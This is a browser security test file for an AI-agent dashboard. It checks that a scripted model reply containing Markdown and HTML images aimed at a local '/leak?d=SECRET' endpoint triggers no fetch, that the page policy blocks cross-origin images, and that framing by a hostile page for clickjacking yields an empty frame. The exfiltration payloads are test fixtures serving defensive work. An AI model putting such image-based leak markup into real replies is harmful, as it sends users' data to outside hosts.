import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseManifest } from '../../src/manifest/index.ts';
import { type DashboardHarness, startDashboard, VISIBLE, visible } from '../support/browser.ts';
import { useScriptedModelServer } from '../support/use-scripted-model-server.ts';

// A fake clock never refills the rate limiter's bucket: give the dashboard's requests room.
const CONFIG = { rate_limit: { per_minute: 1_000_000 } };

/**
 * Another site on loopback: it counts every request to `/leak` (where an image would exfiltrate
 * data) and serves `/framer`, a page that frames the dashboard at `dashboardUrl`.
 */
interface OtherSite {
  url: string;
  leaks: string[];
  close(): Promise<void>;
}

async function startOtherSite(dashboardUrl: () => string): Promise<OtherSite> {
  const leaks: string[] = [];
  const server: Server = createServer((request, response) => {
    if (request.url?.startsWith('/leak') === true) {
      leaks.push(request.url);
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<!doctype html><title>Win a prize</title><iframe id="victim" src="${dashboardUrl()}/#/approvals" width="800" height="600"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    leaks,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.close((error) => (error === undefined ? resolve() : reject(error)));
        // The browser keeps its connections alive; close() alone would wait for them.
        server.closeAllConnections();
      }),
  };
}

describe('the dashboard against a hostile reply and a hostile site, in Chromium', () => {
  const model = useScriptedModelServer();
  let harness: DashboardHarness;
  let other: OtherSite;
  let page: Page;

  beforeAll(async () => {
    harness = await startDashboard('loom-web-security-', CONFIG);
    other = await startOtherSite(() => harness.server.url);
  }, 120_000);
  afterAll(async () => {
    await other?.close();
    await harness?.close();
  });
  beforeEach(async () => {
    page = await harness.browser.newPage();
    return async () => {
      await page.close();
    };
  });

  it('a reply with a remote Markdown image shows a link and never makes the browser fetch the image', async () => {
    const toml = `name = "leaker"\n\n[model]\nprovider = "openai"\nmodel = "gpt-4o"\nbase_url = "${model.url}"\n`;
    await harness.host.kernel.spawn(parseManifest(toml, { source: 'leaker.toml' }).manifest);
    const leak = `${other.url}/leak?d=SECRET`;
    model.script([
      {
        text: `Here is the chart:\n\n![chart](${leak}-markdown)\n\n<img alt="raw" src="${leak}-html">\n\n![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n`,
      },
    ]);
    await page.goto(`${harness.server.url}/#/agents/leaker/chat`);
    await visible(page.getByRole('heading', { name: /Chat with leaker/ }));
    await page.getByRole('textbox', { name: 'Message' }).fill('Show me the chart');
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByTestId('turn-usage').last().waitFor(VISIBLE);
    const reply = page.getByTestId('reply').last();
    await visible(reply, 'Here is the chart');
    // Any image the page holds has finished loading or failing, so a fetch would have arrived.
    await page.waitForFunction('[...document.images].every((image) => image.complete)', undefined, VISIBLE);
    expect(other.leaks).toEqual([]);
    // The reader sees where the images point, as links they may choose to open; a data: image
    // costs no request and still shows.
    const links = reply.locator('a');
    expect(await links.allTextContents()).toEqual(['chart', 'raw']);
    expect(await links.nth(0).getAttribute('href')).toBe(`${leak}-markdown`);
    expect(await links.nth(1).getAttribute('href')).toBe(`${leak}-html`);
    expect(await links.nth(1).getAttribute('rel')).toBe('noopener noreferrer');
    expect(await reply.locator('img').count()).toBe(1);
    expect(await reply.locator('img').getAttribute('src')).toMatch(/^data:image\/gif;/);
  });

  it("the page's policy refuses an image from another site, whoever adds it", async () => {
    await page.goto(`${harness.server.url}/#/agents`);
    await visible(page.getByRole('heading', { name: 'Agents' }));
    // Run in the page (a string: the tests are compiled without the DOM's types).
    const outcome = await page.evaluate<string>(`new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('failed');
      image.src = ${JSON.stringify(`${other.url}/leak?d=added-by-script`)};
      document.body.append(image);
    })`);
    expect(outcome).toBe('failed');
    expect(other.leaks).toEqual([]);
  });

  it('a page on another origin that frames the dashboard gets an empty frame, with no Approve button to trick a click on', async () => {
    await page.goto(`${other.url}/framer`);
    // The frame has loaded (or been refused) once the framing page's load event has fired.
    await page.waitForFunction("document.readyState === 'complete'", undefined, VISIBLE);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    expect(frame).toBeDefined();
    expect(await frame?.locator('#app').count()).toBe(0);
    expect(await page.frameLocator('#victim').getByRole('heading').count()).toBe(0);
  });
});
